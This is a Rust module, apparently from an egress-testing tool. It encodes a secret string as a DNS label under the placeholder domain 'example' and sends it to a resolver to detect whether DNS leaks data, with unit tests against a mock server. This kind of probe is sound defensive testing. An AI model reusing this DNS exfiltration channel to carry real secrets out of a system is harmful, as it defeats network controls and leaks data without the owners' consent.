//! Questions to a resolver outside, with the secret in the name that is asked for.
//!
//! An answer is a leak, with one exception: a machine with a network has a resolver of its own, in the process that runs
//! it, which says to every name that there is none. It is told from one that asks somebody by the root of all names,
//! which is there for everyone but for such a one.

use std::io::{self, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::time::Duration;

use super::attack::Seen;
use super::client;

const PATIENCE: Duration = Duration::from_secs(3);
/// RFC 1035, 4.1.1.
const NO_SUCH_NAME: u8 = 3;

pub fn over_udp(address: SocketAddr, secret: &str) -> Seen {
    let ask = |question: &[u8]| -> io::Result<Vec<u8>> {
        let socket = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
        socket.connect(address)?;
        socket.set_read_timeout(Some(PATIENCE))?;
        socket.send(question)?;
        let mut answer = [0; 512];
        let length = socket.recv(&mut answer)?;
        Ok(answer.get(..length).unwrap_or_default().to_vec())
    };
    match (ask(&name(secret)), ask(&root())) {
        (Err(error), Err(_)) if error.kind() == io::ErrorKind::WouldBlock => {
            Ok((false, "no answer".into()))
        }
        (Err(error), Err(_)) => Ok((false, error.to_string())),
        (one, other) => Ok(judge(&one.unwrap_or_default(), &other.unwrap_or_default())),
    }
}

pub fn over_tcp(address: SocketAddr, secret: &str) -> Seen {
    let mut stream = match client::dial(address) {
        Ok(stream) => stream,
        Err(error) => return Ok((false, error.to_string())),
    };
    // Connected is through, unless both answers say otherwise.
    let one = ask(&mut stream, &name(secret)).unwrap_or_default();
    let other = client::dial(address)
        .and_then(|mut stream| ask(&mut stream, &root()))
        .unwrap_or_default();
    Ok(judge(&one, &other))
}

fn ask(stream: &mut TcpStream, question: &[u8]) -> io::Result<Vec<u8>> {
    let length = u16::try_from(question.len()).map_err(io::Error::other)?;
    stream.write_all(&[&length.to_be_bytes(), question].concat())?;
    let mut length = [0; 2];
    stream.read_exact(&mut length)?;
    let mut answer = vec![0; usize::from(u16::from_be_bytes(length))];
    stream.read_exact(&mut answer)?;
    Ok(answer)
}

/// What was answered to a name, and to the root.
fn judge(one: &[u8], root: &[u8]) -> (bool, String) {
    let denies = |answer: &[u8]| matches!(answer, [_, _, _, flags, _, _, 0, 0, ..] if flags & 0x0f == NO_SUCH_NAME);
    if denies(one) && denies(root) {
        (false, "no such name, not even the root".into())
    } else {
        (true, "answered".into())
    }
}

/// Type A.
fn name(secret: &str) -> Vec<u8> {
    let mut query = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    let label: String = secret.chars().take(63).collect();
    query.push(u8::try_from(label.len()).unwrap_or(0));
    query.extend_from_slice(label.as_bytes());
    query.extend_from_slice(b"\x07example\x00\x00\x01\x00\x01");
    query
}

/// Type NS: every resolver knows the servers of the root.
fn root() -> Vec<u8> {
    let mut query = vec![0x12, 0x35, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    query.extend_from_slice(b"\x00\x00\x02\x00\x01");
    query
}

#[cfg(test)]
mod tests {
    use super::*;

    fn answer(code: u8, records: u8) -> Vec<u8> {
        vec![0x12, 0x34, 0x81, 0x80 | code, 0, 1, 0, records, 0, 0, 0, 0]
    }

    #[test]
    fn only_one_who_denies_the_root_has_asked_nobody() {
        let denied = answer(3, 0);
        assert!(!judge(&denied, &denied).0);
        // A resolver that works: there is no such name, but there is a root.
        assert!(judge(&denied, &answer(0, 13)).0);
        // One whose own way out fails, and one that says nothing to the second question.
        assert!(judge(&denied, &answer(2, 0)).0);
        assert!(judge(&denied, &[]).0);
        assert!(judge(&answer(0, 1), &denied).0);
        assert!(judge(&[], &[]).0);
        assert!(judge(&answer(3, 1), &denied).0);
    }

    #[test]
    fn a_resolver_that_answers_is_a_leak() {
        let server = UdpSocket::bind("127.0.0.1:0").unwrap();
        let address = server.local_addr().unwrap();
        let serving = std::thread::spawn(move || {
            let mut asked = Vec::new();
            for code in [3, 0] {
                let mut query = [0; 512];
                let (length, from) = server.recv_from(&mut query).unwrap();
                asked.push(query[..length].to_vec());
                server
                    .send_to(&answer(code, 13 - 13 * (code / 3)), from)
                    .unwrap();
            }
            asked
        });
        assert!(over_udp(address, "the-secret").unwrap().0);
        let asked = serving.join().unwrap();
        assert!(asked[0].windows(10).any(|piece| piece == b"the-secret"));
    }
}
